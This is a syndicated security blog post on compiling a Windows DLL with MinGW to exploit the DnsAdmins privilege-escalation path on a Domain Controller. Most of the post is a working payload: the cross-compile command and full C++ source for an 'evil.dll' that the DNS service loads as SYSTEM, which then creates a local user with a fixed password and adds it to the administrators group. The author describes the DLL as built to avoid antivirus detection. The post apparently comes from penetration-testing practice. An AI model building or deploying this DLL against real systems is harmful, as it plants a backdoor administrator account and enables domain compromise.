Compiling a DLL using MingGW

Compiling a Windows DLL has always been a pain for me. Getting Visual Studio working is frustrating (or at least used to be, before VS2019). I ran into this same issue recently. I didn’t have Visual Studio readily available because the VMs I had built for the task were left behind. I always knew that MinGW could build DLLs; however, I never spent the time to figure it out.

Now was that time. I needed a DLL that wouldn’t be caught by AV, and I could use it to exploit the DNS Admin escalation path. You can read all about the DNS Admin escalation path in the resources below, but the TL;DR boils down to if you happen to be in the local group called “DnsAdmins” on a Domain Controller, then you have permission to load a DLL into the DNS service running as SYSTEM.

DevOps Connect:DevSecOps @ RSAC 2022

(DnsAdmins is a LOCAL group, which through me off for a long time about this attack. Trying to find it at the domain level was super annoying. On my test DC, I could seeit, but when I was doing engagements, I never seemed to find it.)


DNS Admin Resources:

Compiling DLLs with MinGW:


… here is the super exciting output from compiling the DLL…

[email protected]:~/dnsadmin# x86_64-w64-mingw32-gcc -shared -oevil.dll [email protected]:~/dnsadmin#

Example Code

#include <windows.h>#include <stdlib.h>// Here so I remember how to compile it.// x86_64-w64-mingw32-gcc -shared -o evil.dll evildll.cppextern "C" __declspec(dllexport) int DnsPluginInitialize(PVOID a1, PVOID a2){  system("net.exe user bob Password123 /add");  system("net.exe localgroup administrators bob /add");  return 0;}extern "C" __declspec(dllexport) int DnsPluginCleanup(){  return 0;}extern "C" __declspec(dllexport) int DnsPluginQuery(PSTR a1, WORD a2, PSTR a3, PVOID a4){  return 0;}BOOL WINAPI DllMain(HINSTANCE hinstDLL, DWORD fdwReason, LPVOID lpReserved){    switch (fdwReason)    {    case DLL_PROCESS_ATTACH:        OutputDebugString("DLL_PROCESS_ATTACH");        break;    case DLL_THREAD_ATTACH:        OutputDebugString("DLL_THREAD_ATTACH");        break;    case DLL_THREAD_DETACH:        OutputDebugString("DLL_THREAD_DETACH");        break;    case DLL_PROCESS_DETACH:        OutputDebugString("DLL_PROCESS_DETACH");        break;    }    return TRUE;}

*** This is a Security Bloggers Networksyndicated blog from Posts onauthored by Posts on Read the original post at: